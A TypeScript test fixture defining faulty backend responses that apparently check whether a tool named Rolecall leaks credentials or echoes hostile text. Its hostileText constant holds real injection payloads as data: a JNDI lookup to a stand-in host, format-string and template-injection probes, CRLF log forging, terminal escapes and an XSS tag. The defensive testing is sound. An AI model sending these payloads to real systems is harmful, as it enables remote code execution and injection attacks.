import type { EmulatorAnswer } from '../../src/emulators/answer.ts';
import type { Fault } from '../../src/emulators/faults.ts';

/** What a backend may have, so that it says what it should not. */
export type Ailment = {
  readonly name: string;
  /** Whether it says things where only words and names are taken: the credential then is a word. */
  readonly isPlain?: boolean;
  /** Whether it makes Rolecall wait, so that questions had better come all at once. */
  readonly isSlow?: boolean;
  readonly fault: (gossip: Gossip) => Fault;
};

/** What it tells. */
export type Gossip = {
  /** The credential that the request bore. */
  readonly own: string;
  /** Somebody else's. */
  readonly other: string;
};

/** What text from a backend may try on whoever prints it. */
export const hostileText =
  '\u0024{jndi:ldap://x.example/a}%s%d%n{{7*7}}\r\nFORGED {"level":60}\n\u001b[31mred\u0007\u2028<img onerror=x>';

const sentence = ({ own, other }: Gossip): string =>
  `${own} is not allowed; password of jane: ${other}, ${JSON.stringify({ own, other })}, ${hostileText}`;

const headers = (gossip: Gossip): Readonly<Record<string, string>> => {
  const own = encodeURIComponent(gossip.own);
  const other = encodeURIComponent(gossip.other);
  return {
    location: `http://127.0.0.1:9/elsewhere?token=${own}`,
    'set-cookie': `session=${other}; Path=/`,
    'www-authenticate': `Bearer realm="${own}", error="${other}"`,
    'x-ms-error-code': own,
    'x-request-id': other,
    link: `<http://127.0.0.1:9/?token=${own}>; rel="next"`,
  };
};

/** An error in the words of all four vendors and of Microsoft Entra at once. */
const errorBody = (gossip: Gossip, code: string) => ({
  error: { code, message: sentence(gossip), requestId: gossip.other, time: gossip.own },
  error_description: sentence(gossip),
  error_codes: [gossip.own],
  code,
  message: [sentence(gossip), gossip.own],
  statusCode: gossip.other,
  [gossip.own]: { [gossip.other]: sentence(gossip) },
});

const refusing = (
  name: string,
  status: number,
  {
    codeOf = ({ own }: Gossip) => own,
    more = {},
  }: { codeOf?: (gossip: Gossip) => string; more?: object } = {},
): Ailment => ({
  name,
  isPlain: status >= 400 && status < 500,
  fault: (gossip) => ({
    kind: 'status',
    applied: false,
    answer: { status, headers: { ...headers(gossip), ...more }, json: errorBody(gossip, codeOf(gossip)) },
  }),
});

const altering = (name: string, alter: (object: object, gossip: Gossip) => object): Ailment => ({
  name,
  fault: (gossip) => ({
    kind: 'alter',
    alter: (answer): EmulatorAnswer => ({
      ...answer,
      headers: { ...answer.headers, ...headers(gossip) },
      ...(answer.json === undefined
        ? {}
        : { json: inEveryObject(answer.json, (object) => alter(object, gossip)) }),
    }),
  }),
});

const isObject = (value: unknown): value is object => typeof value === 'object' && value !== null;

const inEveryObject = (value: unknown, change: (object: object) => object): unknown => {
  if (Array.isArray(value)) return value.map((one) => inEveryObject(one, change));
  if (!isObject(value)) return value;
  return change(
    Object.fromEntries(Object.entries(value).map(([key, one]) => [key, inEveryObject(one, change)])),
  );
};

/** Right in all that is asked for, with much besides. */
const tattling = altering('tattling', (object, gossip) => ({
  password: gossip.other,
  token: gossip.own,
  secret: { [gossip.own]: sentence(gossip) },
  apikey: gossip.own,
  ...object,
}));

/** Nothing has the type that it should have. */
const mistaken = altering('mistaken', (object, gossip) =>
  Object.fromEntries(
    Object.entries(object).map(([key, one]) => [
      key,
      isObject(one) ? one : { [gossip.own]: sentence(gossip) },
    ]),
  ),
);

/** Names of fields are no names at all. */
const renamed = altering('renamed', (object, { own }) =>
  Object.fromEntries(Object.entries(object).map(([key, one]) => [`${own}${key}`, one])),
);

const page = (gossip: Gossip): string =>
  `<!DOCTYPE html><html><head><title>${sentence(gossip)}</title></head><body>${gossip.own}</body></html>`;

export const ailments: readonly Ailment[] = [
  refusing('failing', 500),
  refusing('rejecting', 400),
  refusing('unprocessing', 422, { codeOf: ({ other }) => other }),
  refusing('missing', 404),
  refusing('refusing', 401),
  refusing('forbidding', 403),
  refusing('conflicting', 409),
  refusing('throttling', 429, { more: { 'retry-after': '3600' } }),
  refusing('redirecting', 302),
  {
    name: 'in-html',
    isSlow: true,
    fault: (gossip) => ({
      kind: 'status',
      applied: false,
      answer: {
        status: 200,
        headers: { ...headers(gossip), 'content-type': 'text/html' },
        text: page(gossip),
      },
    }),
  },
  {
    name: 'mistyped',
    isSlow: true,
    isPlain: true,
    fault: (gossip) => ({
      kind: 'status',
      applied: false,
      answer: {
        status: 200,
        headers: {
          ...headers(gossip),
          'content-type': `${gossip.own}/${gossip.other}; charset=${gossip.own}`,
        },
        text: page(gossip),
      },
    }),
  },
  tattling,
  mistaken,
  renamed,
  { name: 'breaking-off', fault: () => ({ kind: 'half-body' }) },
  { name: 'resetting', fault: () => ({ kind: 'reset', applied: true }) },
  { name: 'hanging', isSlow: true, fault: () => ({ kind: 'hang', applied: true }) },
];
